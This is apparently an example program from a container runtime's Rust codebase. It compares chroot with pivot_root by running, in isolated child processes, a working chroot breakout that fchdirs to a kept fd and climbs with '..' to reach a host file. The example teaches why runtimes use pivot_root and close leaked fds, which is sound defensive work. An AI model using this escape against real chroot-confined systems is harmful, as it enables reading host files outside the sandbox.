//! A container's own filesystem: chroot versus pivot_root. `chroot(2)` only changes where a
//! process's path lookups start; the host's whole mount tree is still there, and `..` from any
//! directory outside the new root walks up to the host's `/`. A process with CAP_SYS_CHROOT
//! makes itself such a directory: it keeps an fd of a directory, chroots into a subdirectory
//! (its fd now lies outside its root), `fchdir`s to the fd, climbs with `..` and chroots there.
//! `pivot_root(2)` instead makes the rootfs the root of the process's mount namespace and the
//! old root is unmounted: no path and no `..` leads out, so the same escape ends in the rootfs.
//!
//! Each part runs in a child of this program, in a mount namespace of its own (so nothing it
//! does reaches the host's mounts), doing what a runtime does with these calls. cofferdam uses
//! pivot_root; `CreateOptions::no_pivot` (runc's `--no-pivot`, for a rootfs on ramfs, where
//! pivot_root is refused) is the chroot way, which a process given CAP_SYS_CHROOT escapes as
//! shown here (the default spec does not give it).
//!
//! ```sh
//! cargo run --example rootfs      # as root
//! ```
//!
//! What to look at: after the escape, the chroot child reads a file of the host that lies
//! outside its rootfs (`ESCAPED`); the pivot_root child does not (`contained`). One caveat
//! holds for both: an fd of a host directory *opened before* the switch reaches the host
//! anyway, which is why runtimes close every fd they do not mean to pass (runc's
//! CVE-2024-21626 was one it leaked).

mod common;

use std::path::Path;

use nix::mount::{MntFlags, MsFlags, mount, umount2};
use nix::sys::wait::waitpid;
use nix::unistd::{ForkResult, chdir, chroot, fchdir, fork, pivot_root};

fn entries(dir: &str) -> String {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names.join(" ")
}

/// The classic escape, from inside the root: keep an fd of `/`, chroot into a subdirectory so
/// that the fd lies outside the root, go there, climb, and make the top the root.
fn escape() -> nix::Result<()> {
    let kept = std::fs::File::open("/").map_err(|_| nix::errno::Errno::EIO)?;
    std::fs::create_dir_all("/deeper").map_err(|_| nix::errno::Errno::EIO)?;
    chroot("/deeper")?;
    fchdir(&kept)?;
    for _ in 0..64 {
        chdir("..")?;
    }
    chroot(".")
}

/// What a child does after it entered its root: look around, try the escape, look for the
/// host's file. Exit status 1: escaped, 0: contained.
fn inside(how: &str, host_file: &Path) -> i32 {
    println!("{how}: inside, / holds: {}", entries("/"));
    if let Err(e) = escape() {
        println!("{how}: the escape failed: {e}");
    }
    match std::fs::read_to_string(host_file) {
        Ok(text) => {
            println!(
                "{how}: ESCAPED: read the host's {} ({:?}); / holds: {}",
                host_file.display(),
                text.trim(),
                entries("/")
            );
            1
        }
        Err(_) => {
            println!(
                "{how}: contained: no {} here; / still holds: {}",
                host_file.display(),
                entries("/")
            );
            0
        }
    }
}

fn enter_chroot(rootfs: &Path) -> nix::Result<()> {
    chroot(rootfs)?;
    chdir("/")
}

/// As a runtime does it: the rootfs a mount point of its own (bound onto itself), pivot_root
/// with the old root stacked beneath the new one, and the old root detached.
fn enter_pivot_root(rootfs: &Path) -> nix::Result<()> {
    mount(
        Some(rootfs),
        rootfs,
        None::<&str>,
        MsFlags::MS_BIND | MsFlags::MS_REC,
        None::<&str>,
    )?;
    chdir(rootfs)?;
    pivot_root(".", ".")?;
    umount2(".", MntFlags::MNT_DETACH)?;
    chdir("/")
}

/// Run `enter` then [`inside`] in a child in a new mount namespace; the child's exit status.
fn in_child(
    how: &str,
    rootfs: &Path,
    host_file: &Path,
    enter: fn(&Path) -> nix::Result<()>,
) -> common::Result<i32> {
    // SAFETY: this program has one thread, so the child may do anything after the fork.
    match unsafe { fork() }? {
        ForkResult::Child => {
            let setup = nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWNS)
                // Nothing mounted or unmounted here propagates to the host.
                .and_then(|_| {
                    mount(
                        None::<&str>,
                        "/",
                        None::<&str>,
                        MsFlags::MS_REC | MsFlags::MS_PRIVATE,
                        None::<&str>,
                    )
                })
                .and_then(|_| enter(rootfs));
            let code = match setup {
                // A panic must not unwind into main's frames in the child: they would clean up
                // the parent's scratch directory.
                Ok(()) => std::panic::catch_unwind(|| inside(how, host_file)).unwrap_or(2),
                Err(e) => {
                    println!("{how}: setting up the root failed: {e}");
                    2
                }
            };
            std::process::exit(code)
        }
        ForkResult::Parent { child } => Ok(match waitpid(child, None)? {
            nix::sys::wait::WaitStatus::Exited(_, code) => code,
            other => return Err(format!("{how}: the child ended with {other:?}").into()),
        }),
    }
}

fn main() -> common::Result<()> {
    let scratch = common::Scratch::new("rootfs")?;
    // A rootfs each: the escape leaves a directory behind.
    let (rootfs1, rootfs2) = (scratch.rootfs("rootfs1")?, scratch.rootfs("rootfs2")?);
    // A file of the host's, outside the rootfs: what an escape would read.
    let host_file = scratch.dir.join("host-secret.txt");
    std::fs::write(&host_file, "the host's secret\n")?;

    let chroot_code = in_child("chroot", &rootfs1, &host_file, enter_chroot)?;
    let pivot_code = in_child("pivot_root", &rootfs2, &host_file, enter_pivot_root)?;
    if chroot_code == 2 || pivot_code == 2 {
        return Err("a child could not set up its root".into());
    }
    println!(
        "summary: chroot {}, pivot_root {}",
        if chroot_code == 1 { "escaped" } else { "held" },
        if pivot_code == 1 { "escaped" } else { "held" }
    );
    Ok(())
}
